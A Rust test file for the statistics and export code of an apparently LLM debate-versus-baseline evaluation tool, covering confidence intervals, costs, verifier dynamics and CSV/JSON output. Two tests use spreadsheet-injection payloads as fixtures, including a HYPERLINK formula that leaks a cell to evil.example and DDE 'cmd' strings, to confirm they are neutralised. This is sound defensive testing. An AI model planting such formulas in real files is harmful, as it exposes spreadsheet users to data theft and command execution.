//! Batch statistics on hand-built runs. Interval values come from `python3` implementing the
//! published formulas independently (Wilson 1927 in its `(2np + z²) / 2(n + z²)` form, and
//! Newcombe 1998 method 10); the oracle script is in the comment of each test.

use serde_json::{json, Map, Value};
use trialogue::core::config::Mode;
use trialogue::core::dataset::Problem;
use trialogue::core::stats::{
    csv_field, disagreements, facet_breakdowns, facet_keys, neutralize_formula, problem_rows,
    rows_to_csv, rows_to_csv_with_metadata, rows_to_json, summarize, wilson_interval, Dynamics,
    IterationPassRate, ModeStats, PairedComparison, ProblemRow, Proportion, RunResult, Z_95,
};
use trialogue::core::trajectory::{RunRecord, RunStatus, StepMetadata, TrajectoryEntry};

fn close(actual: f64, expected: f64) {
    assert!(
        (actual - expected).abs() < 1e-12,
        "{actual} differs from {expected}"
    );
}

fn entry(
    run_id: &str,
    step_id: u64,
    agent: &str,
    iteration: Option<u32>,
    input: Value,
    output: Value,
    cost: f64,
) -> TrajectoryEntry {
    let mut metadata = Map::new();
    if let Some(i) = iteration {
        metadata.insert("iteration".into(), json!(i));
    }
    metadata.insert("cost_usd".into(), json!(cost));
    let action = match agent {
        "solver" => "generate",
        "verifier" => "validate",
        _ => "score",
    };
    TrajectoryEntry {
        timestamp: "2026-01-01T00:00:00.000000+00:00".into(),
        run_id: run_id.into(),
        step_id,
        agent: agent.into(),
        action: action.into(),
        input: input.as_object().cloned().unwrap_or_default(),
        output: output.as_object().cloned().unwrap_or_default(),
        metadata: StepMetadata::from_object(metadata),
        reward: None,
        terminal: false,
        success: None,
    }
}

/// A run's solver rounds (solution, verifier verdict), then the judge (if scored), with the
/// whole cost put on the last step.
struct Spec<'a> {
    problem: &'a str,
    mode: Mode,
    truth: &'a str,
    rounds: &'a [(&'a str, Option<(bool, &'a str)>)],
    judge: Option<f64>,
    correct: Option<bool>,
    cost: f64,
}

fn run(spec: Spec<'_>) -> RunResult {
    let run_id = format!(
        "run_20260101_000000_{}_{}",
        spec.problem,
        spec.mode.as_str()
    );
    let mut entries = Vec::new();
    let mut solution = "";
    for (i, (s, verdict)) in spec.rounds.iter().enumerate() {
        let iteration = i as u32 + 1;
        solution = s;
        entries.push(entry(
            &run_id,
            entries.len() as u64 + 1,
            "solver",
            Some(iteration),
            json!({"problem": spec.problem, "feedback": ""}),
            json!({"solution": s, "reasoning": "", "confidence": 0.5}),
            0.0,
        ));
        if let Some((passed, critique)) = verdict {
            entries.push(entry(
                &run_id,
                entries.len() as u64 + 1,
                "verifier",
                Some(iteration),
                json!({"problem": spec.problem, "solution": s}),
                json!({"passed": passed, "critique": critique, "confidence": 0.5, "scores": {}}),
                0.0,
            ));
        }
    }
    if let Some(score) = spec.judge {
        let mut judge = entry(
            &run_id,
            entries.len() as u64 + 1,
            "judge",
            None,
            json!({"problem": spec.problem, "solution": solution}),
            json!({"score": score, "reasoning": "", "strengths": [], "weaknesses": []}),
            0.0,
        );
        judge.terminal = true;
        judge.success = spec.correct;
        entries.push(judge);
    }
    if let Some(last) = entries.last_mut() {
        last.metadata.cost_usd = Some(Some(spec.cost));
    }
    let mut record = RunRecord::from_entries(&run_id, &entries, 0.0);
    record.mode = spec.mode;
    record.ground_truth = Some(spec.truth.to_string());
    if spec.judge.is_none() {
        record.status = RunStatus::Failed;
    }
    RunResult::new(spec.problem, &record, &entries)
}

/// Five problems in debate (one failed) and four in baseline; see each run's comment.
fn batch() -> Vec<RunResult> {
    vec![
        // P1: wrong then right, passed at round 2.
        run(Spec {
            problem: "P1",
            mode: Mode::Debate,
            truth: "4",
            rounds: &[
                ("so \\boxed{3}", Some((false, "The sum is off"))),
                ("so \\boxed{4}", Some((true, "ok"))),
            ],
            judge: Some(0.9),
            correct: Some(true),
            cost: 0.02,
        }),
        // P2: right, then wrong twice; the critiques go circular at round 3.
        run(Spec {
            problem: "P2",
            mode: Mode::Debate,
            truth: "5",
            rounds: &[
                ("\\boxed{5}", Some((false, "The sum is off"))),
                ("\\boxed{6}", Some((false, "check step 2"))),
                ("\\boxed{6}", Some((false, "Check step 2."))),
            ],
            judge: Some(0.7),
            correct: Some(false),
            cost: 0.03,
        }),
        // P3: right and passed, but the judge scores it low.
        run(Spec {
            problem: "P3",
            mode: Mode::Debate,
            truth: "10",
            rounds: &[("\\boxed{10}", Some((true, "fine")))],
            judge: Some(0.4),
            correct: Some(true),
            cost: 0.01,
        }),
        // P4: right, passed, judged well: everything agrees.
        run(Spec {
            problem: "P4",
            mode: Mode::Debate,
            truth: "8",
            rounds: &[("\\boxed{8}", Some((true, "fine")))],
            judge: Some(0.8),
            correct: Some(true),
            cost: 0.01,
        }),
        // P5: failed before the judge; it still cost money.
        run(Spec {
            problem: "P5",
            mode: Mode::Debate,
            truth: "1",
            rounds: &[("\\boxed{2}", None)],
            judge: None,
            correct: None,
            cost: 0.005,
        }),
        run(Spec {
            problem: "P1",
            mode: Mode::Baseline,
            truth: "4",
            rounds: &[("\\boxed{3}", None)],
            judge: Some(0.3),
            correct: Some(false),
            cost: 0.004,
        }),
        run(Spec {
            problem: "P2",
            mode: Mode::Baseline,
            truth: "5",
            rounds: &[("\\boxed{5}", None)],
            judge: Some(0.9),
            correct: Some(true),
            cost: 0.004,
        }),
        run(Spec {
            problem: "P3",
            mode: Mode::Baseline,
            truth: "10",
            rounds: &[("\\boxed{10}", None)],
            judge: Some(0.6),
            correct: Some(true),
            cost: 0.004,
        }),
        // P4 baseline: wrong, but the judge says right.
        run(Spec {
            problem: "P4",
            mode: Mode::Baseline,
            truth: "8",
            rounds: &[("\\boxed{9}", None)],
            judge: Some(0.6),
            correct: Some(false),
            cost: 0.004,
        }),
    ]
}

#[test]
fn wilson_matches_the_oracle() {
    // python3: z = NormalDist().inv_cdf(.975); c = (2*n*p + z*z) / (2*(n + z*z));
    //          h = z*sqrt(z*z + 4*n*p*(1-p)) / (2*(n + z*z)); (c - h, c + h)
    close(Z_95, 1.959_963_984_540_053_6);
    let cases = [
        (7, 10, 0.396_778_147_461_145_37, 0.892_208_732_593_698_9),
        (81, 100, 0.722_211_546_209_356_2, 0.874_852_484_902_312_6),
        (1, 3, 0.061_491_944_720_396_32, 0.792_340_399_197_952_2),
    ];
    for (x, n, low, high) in cases {
        let (l, h) = wilson_interval(x, n, Z_95).unwrap();
        close(l, low);
        close(h, high);
    }
    let p = Proportion::new(3, 4).unwrap();
    assert_eq!((p.successes, p.trials), (3, 4));
    close(p.rate, 0.75);
    close(p.low, 0.300_641_842_582_402);
    close(p.high, 0.954_412_739_190_299_5);
    assert_eq!(Proportion::new(0, 0), None);
}

#[test]
fn newcombe_paired_interval_matches_the_oracle() {
    // python3 (see the top of this file): newcombe(a, b, c, d) -> (D, low, high)
    let cases = [
        // ad − bc = 1530 > n/2: φ with the continuity correction.
        (
            30,
            12,
            5,
            53,
            0.07,
            -0.011_787_112_121_493_123,
            0.150_092_470_768_340_92,
        ),
        // No discordant pairs.
        (
            5,
            0,
            0,
            5,
            0.0,
            -0.166_593_157_081_222_55,
            0.166_593_157_081_222_55,
        ),
        // ad − bc < 0: φ uncorrected.
        (
            2,
            3,
            1,
            0,
            1.0 / 3.0,
            -0.271_596_664_118_808_1,
            0.726_292_784_960_989_8,
        ),
        // An empty margin: φ = 0; the upper end is clamped to 1.
        (0, 4, 0, 0, 1.0, 0.307_189_735_003_608_7, 1.0),
    ];
    for (a, b, c, d, diff, low, high) in cases {
        let p = PairedComparison::from_counts(a, b, c, d).unwrap();
        close(p.difference, diff);
        close(p.low, low);
        close(p.high, high);
        assert_eq!(p.pairs, a + b + c + d);
    }
    assert_eq!(PairedComparison::from_counts(0, 0, 0, 0), None);
}

#[test]
fn mode_summaries_count_rates_and_costs() {
    let results = batch();
    let debate = ModeStats::of(Mode::Debate, &results).unwrap();
    assert_eq!((debate.runs, debate.completed), (5, 4));
    let accuracy = debate.accuracy.unwrap();
    assert_eq!((accuracy.successes, accuracy.trials), (3, 4));
    close(accuracy.low, 0.300_641_842_582_402);
    close(
        debate.mean_judge_score.unwrap(),
        (0.9 + 0.7 + 0.4 + 0.8) / 4.0,
    );
    let pass = debate.verifier_pass_rate.unwrap();
    assert_eq!((pass.successes, pass.trials), (3, 4));
    close(debate.mean_iterations.unwrap(), 1.75);
    // 0.02 + 0.03 + 0.01 + 0.01 + 0.005, the failed run included.
    close(debate.total_cost_usd.unwrap(), 0.075);
    close(debate.cost_per_problem.unwrap(), 0.015);
    close(debate.cost_per_correct.unwrap(), 0.025);
    assert!(debate.cost_complete);

    let baseline = ModeStats::of(Mode::Baseline, &results).unwrap();
    assert_eq!((baseline.runs, baseline.completed), (4, 4));
    assert_eq!(baseline.accuracy.unwrap().successes, 2);
    assert_eq!(baseline.verifier_pass_rate, None);
    close(baseline.cost_per_problem.unwrap(), 0.004);
    close(baseline.cost_per_correct.unwrap(), 0.008);
}

#[test]
fn cost_per_correct_is_none_without_a_correct_answer() {
    let results: Vec<RunResult> = batch()
        .into_iter()
        .filter(|r| r.mode == Mode::Baseline && r.correct == Some(false))
        .collect();
    let stats = ModeStats::of(Mode::Baseline, &results).unwrap();
    assert_eq!(stats.accuracy.unwrap().successes, 0);
    close(stats.cost_per_problem.unwrap(), 0.004);
    assert_eq!(stats.cost_per_correct, None);
    assert_eq!(ModeStats::of(Mode::Debate, &results), None);

    // An unknown price makes the totals a lower bound, and no known price makes them unknown.
    let mut unpriced = results.clone();
    unpriced[0].cost_usd = None;
    let stats = ModeStats::of(Mode::Baseline, &unpriced).unwrap();
    assert!(!stats.cost_complete);
    close(stats.total_cost_usd.unwrap(), 0.004);
    unpriced[1].cost_usd = None;
    let stats = ModeStats::of(Mode::Baseline, &unpriced).unwrap();
    assert_eq!(stats.total_cost_usd, None);
    assert_eq!(stats.cost_per_problem, None);
}

#[test]
fn paired_comparison_counts_discordant_problems() {
    let paired = PairedComparison::of(&batch()).unwrap();
    // P3 both right; P1, P4 debate only; P2 baseline only; P5 has no baseline.
    assert_eq!(
        (
            paired.both_correct,
            paired.debate_only,
            paired.baseline_only,
            paired.neither
        ),
        (1, 2, 1, 0)
    );
    close(paired.debate_accuracy, 0.75);
    close(paired.baseline_accuracy, 0.5);
    close(paired.difference, 0.25);
    // python3: newcombe(1, 2, 1, 0)
    close(paired.low, -0.461_323_533_628_147_6);
    close(paired.high, 0.746_850_580_387_126_4);
}

#[test]
fn dynamics_track_pass_rates_flips_and_circular_stops() {
    let results = batch();
    let p2 = &results[1];
    assert!(p2.circular);
    assert_eq!(p2.flips(), (1, 0));
    assert_eq!(results[0].flips(), (0, 1));
    assert_eq!(p2.rounds[0].answer.as_deref(), Some("5"));
    assert_eq!(p2.rounds[1].correct, Some(false));

    let d = Dynamics::of(&results);
    assert_eq!(d.runs, 4);
    assert_eq!(
        d.pass_rate_by_iteration,
        [
            IterationPassRate {
                iteration: 1,
                verdicts: 4,
                passed: 2,
                rate: 0.5
            },
            IterationPassRate {
                iteration: 2,
                verdicts: 2,
                passed: 1,
                rate: 0.5
            },
            IterationPassRate {
                iteration: 3,
                verdicts: 1,
                passed: 0,
                rate: 0.0
            },
        ]
    );
    assert_eq!((d.right_to_wrong, d.wrong_to_right), (1, 1));
    let flipped: Vec<&str> = d.flip_runs.iter().map(|f| f.problem_id.as_str()).collect();
    assert_eq!(flipped, ["P1", "P2"]);
    assert_eq!(d.circular_stops, 1);
}

#[test]
fn disagreements_list_the_runs_where_checks_differ() {
    let found = disagreements(&batch());
    let which: Vec<(&str, Mode)> = found
        .iter()
        .map(|d| (d.problem_id.as_str(), d.mode))
        .collect();
    assert_eq!(
        which,
        [
            ("P2", Mode::Debate),
            ("P3", Mode::Debate),
            ("P4", Mode::Baseline)
        ]
    );
    let p2 = &found[0];
    assert_eq!(
        (p2.answer_correct, p2.judge_says_correct, p2.verifier_passed),
        (Some(false), Some(true), Some(false))
    );
    // A score of exactly 0.5 counts as the judge saying correct.
    let mut edge = batch()[3].clone();
    edge.judge_score = Some(0.5);
    assert!(disagreements(&[edge.clone()]).is_empty());
    edge.judge_score = Some(0.49);
    assert_eq!(disagreements(&[edge]).len(), 1);
}

#[test]
fn a_record_alone_still_gives_the_verdict_of_a_completed_debate() {
    let results = batch();
    let mut record = RunRecord::from_entries("run_x", &[], 0.0);
    record.mode = Mode::Debate;
    record.status = RunStatus::Completed;
    record.passed = true;
    let r = RunResult::new("P9", &record, &[]);
    assert_eq!(r.verifier_passed, Some(true));
    assert!(r.rounds.is_empty());
    record.mode = Mode::Baseline;
    assert_eq!(RunResult::new("P9", &record, &[]).verifier_passed, None);
    // The final answer is the judged solution's.
    assert_eq!(results[0].final_answer.as_deref(), Some("4"));
    assert_eq!(results[4].final_answer.as_deref(), Some("2"));
}

#[test]
fn summarize_puts_it_all_together() {
    let stats = summarize(&batch());
    assert_eq!(stats.debate.as_ref().unwrap().runs, 5);
    assert_eq!(stats.baseline.as_ref().unwrap().runs, 4);
    assert_eq!(stats.paired.unwrap().pairs, 4);
    assert_eq!(stats.disagreements.len(), 3);
    assert_eq!(stats.dynamics.circular_stops, 1);
}

#[test]
fn rows_export_as_rfc4180_csv_and_json() {
    let rows = problem_rows(&batch());
    let order: Vec<(&str, Mode)> = rows
        .iter()
        .map(|r| (r.problem_id.as_str(), r.mode))
        .take(3)
        .collect();
    assert_eq!(
        order,
        [
            ("P1", Mode::Debate),
            ("P1", Mode::Baseline),
            ("P2", Mode::Debate)
        ]
    );
    let row = ProblemRow {
        problem_id: "test/algebra/1.json".into(),
        mode: Mode::Debate,
        run_id: "run_20260101_000000_ab12cd34".into(),
        status: RunStatus::Completed,
        ground_truth: Some("say \"x\"\nthen y".into()),
        final_answer: Some("(2,3)".into()),
        correct: Some(true),
        judge_score: Some(0.75),
        verifier_passed: None,
        iterations: 2,
        circular: false,
        right_to_wrong: 0,
        wrong_to_right: 1,
        cost_usd: Some(0.0125),
        cost_complete: true,
    };
    let csv = rows_to_csv(std::slice::from_ref(&row));
    assert_eq!(
        csv,
        "problem_id,mode,run_id,status,ground_truth,final_answer,correct,judge_score,\
         verifier_passed,iterations,circular,right_to_wrong,wrong_to_right,cost_usd,cost_complete\r\n\
         test/algebra/1.json,debate,run_20260101_000000_ab12cd34,completed,\"say \"\"x\"\"\nthen y\",\
         \"(2,3)\",true,0.75,,2,false,0,1,0.0125,true\r\n"
    );
    assert_eq!(csv_field("a\rb"), "\"a\rb\"");

    let parsed: Value = serde_json::from_str(&rows_to_json(std::slice::from_ref(&row))).unwrap();
    assert_eq!(parsed[0]["ground_truth"], json!("say \"x\"\nthen y"));
    assert_eq!(parsed[0]["mode"], json!("debate"));
    assert_eq!(parsed[0]["verifier_passed"], Value::Null);
    assert_eq!(parsed[0]["cost_usd"], json!(0.0125));
    assert_eq!(parsed[0].as_object().unwrap().len(), 15);
}

#[test]
fn csv_cells_that_a_spreadsheet_would_run_are_neutralized() {
    // OWASP's CSV injection payloads, in the columns that come from a dataset or a model.
    let row = ProblemRow {
        problem_id: "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")".into(),
        mode: Mode::Debate,
        run_id: "@SUM(1+1)*cmd|' /C calc'!A0".into(),
        status: RunStatus::Completed,
        ground_truth: Some("-3".into()),
        final_answer: Some("+1+cmd|' /C calc'!A0".into()),
        correct: Some(false),
        judge_score: Some(-0.0),
        verifier_passed: None,
        iterations: 1,
        circular: false,
        right_to_wrong: 0,
        wrong_to_right: 0,
        cost_usd: Some(-0.5),
        cost_complete: true,
    };
    let csv = rows_to_csv(std::slice::from_ref(&row));
    let line = csv.split("\r\n").nth(1).unwrap();
    assert_eq!(
        line,
        "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"open\"\")\",debate,\
         '@SUM(1+1)*cmd|' /C calc'!A0,completed,-3,'+1+cmd|' /C calc'!A0,false,-0,,1,false,0,0,\
         -0.5,true"
    );
    for (cell, shown) in [
        ("-1+2", "'-1+2"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("@x", "'@x"),
        ("a=b", "a=b"),
        ("-12.5", "-12.5"),
        ("+4e-3", "+4e-3"),
    ] {
        assert_eq!(neutralize_formula(cell), shown, "{cell:?}");
    }
    // The JSON export keeps the values as they are.
    let parsed: Value = serde_json::from_str(&rows_to_json(&[row])).unwrap();
    assert_eq!(parsed[0]["final_answer"], json!("+1+cmd|' /C calc'!A0"));
}

fn problem(id: &str, metadata: Value, domain: Option<&str>) -> Problem {
    Problem {
        id: id.into(),
        problem: format!("{id}?"),
        ground_truth: None,
        domain: domain.map(str::to_string),
        metadata: match metadata {
            Value::Object(m) => m,
            _ => Map::new(),
        },
    }
}

/// The problems of [`batch`] with MATH-500-like metadata.
fn batch_problems() -> Vec<Problem> {
    let meta = |level: u32, subject: &str| json!({"level": level, "subject": subject, "source": "MATH", "tags": ["x"]});
    vec![
        problem("P1", meta(2, "Algebra"), Some("Algebra")),
        problem("P2", meta(10, "Algebra"), Some("Algebra")),
        problem("P3", meta(2, "Geometry"), Some("Geometry")),
        problem("P4", meta(10, "Geometry"), Some("Geometry")),
        problem("P5", meta(2, "Geometry"), Some("Geometry")),
    ]
}

#[test]
fn accuracy_breaks_down_by_each_metadata_facet_per_mode() {
    let problems = batch_problems();
    // One value (`source`) or not a scalar (`tags`): no facet.
    assert_eq!(facet_keys(&problems), ["level", "subject"]);
    let facets = facet_breakdowns(&batch(), &problems);
    let counts = |p: Option<Proportion>| p.map(|p| (p.successes, p.trials));
    type Counts = Option<(usize, usize)>;
    let table: Vec<(&str, &str, Counts, Counts)> = facets
        .iter()
        .flat_map(|f| {
            f.rows.iter().map(|r| {
                (
                    f.key.as_str(),
                    r.value.as_str(),
                    counts(r.debate),
                    counts(r.baseline),
                )
            })
        })
        .collect();
    // Debate: P1 right, P2 wrong, P3 right, P4 right, P5 failed (not counted).
    // Baseline: P1 wrong, P2 right, P3 right, P4 wrong. Levels in number order (2 before 10).
    assert_eq!(
        table,
        [
            ("level", "2", Some((2, 2)), Some((1, 2))),
            ("level", "10", Some((1, 2)), Some((1, 2))),
            ("subject", "Algebra", Some((1, 2)), Some((1, 2))),
            ("subject", "Geometry", Some((2, 2)), Some((1, 2))),
        ]
    );
    // Each with its 95 % Wilson interval (see wilson_matches_the_oracle).
    let half = facets[0].rows[1].debate.unwrap();
    assert_eq!(half.rate, 0.5);
    assert!(half.low > 0.0 && half.low < 0.5 && half.high > 0.5 && half.high < 1.0);
    // Results whose problem is unknown are left out; no problems, no facets.
    assert!(facet_breakdowns(&batch(), &[]).is_empty());
}

#[test]
fn the_csv_carries_the_problems_metadata_neutralized() {
    let row = |problem_id: &str| ProblemRow {
        problem_id: problem_id.into(),
        mode: Mode::Baseline,
        run_id: format!("run_{problem_id}"),
        status: RunStatus::Completed,
        ground_truth: Some("4".into()),
        final_answer: Some("4".into()),
        correct: Some(true),
        judge_score: None,
        verifier_passed: None,
        iterations: 1,
        circular: false,
        right_to_wrong: 0,
        wrong_to_right: 0,
        cost_usd: Some(0.5),
        cost_complete: true,
    };
    let problems = vec![
        problem(
            "a",
            json!({"level": 3, "subject": "Algebra", "status": "=cmd|' /C calc'!A0"}),
            Some("Algebra"),
        ),
        problem("b", json!({"level": "Level 5", "note": "x, y"}), None),
    ];
    let rows = [row("a"), row("b"), row("gone")];
    let csv = rows_to_csv_with_metadata(&rows, &problems);
    let fixed = "problem_id,mode,run_id,status,ground_truth,final_answer,correct,judge_score,\
                 verifier_passed,iterations,circular,right_to_wrong,wrong_to_right,cost_usd,\
                 cost_complete";
    let lines: Vec<&str> = csv.split("\r\n").collect();
    // Keys in order; `status` is a fixed column's name, so its metadata is `metadata.status`.
    assert_eq!(
        lines[0],
        format!("{fixed},domain,level,note,metadata.status,subject")
    );
    assert_eq!(
        lines[1],
        "a,baseline,run_a,completed,4,4,true,,,1,false,0,0,0.5,true,\
         Algebra,3,,'=cmd|' /C calc'!A0,Algebra"
    );
    assert_eq!(
        lines[2],
        "b,baseline,run_b,completed,4,4,true,,,1,false,0,0,0.5,true,,Level 5,\"x, y\",,"
    );
    // A row whose problem is not known has empty metadata cells.
    assert_eq!(
        lines[3],
        "gone,baseline,run_gone,completed,4,4,true,,,1,false,0,0,0.5,true,,,,,"
    );
    assert_eq!(lines[4], "");
    // Without problems it is the plain table, byte for byte.
    assert_eq!(rows_to_csv_with_metadata(&rows, &[]), rows_to_csv(&rows));
}
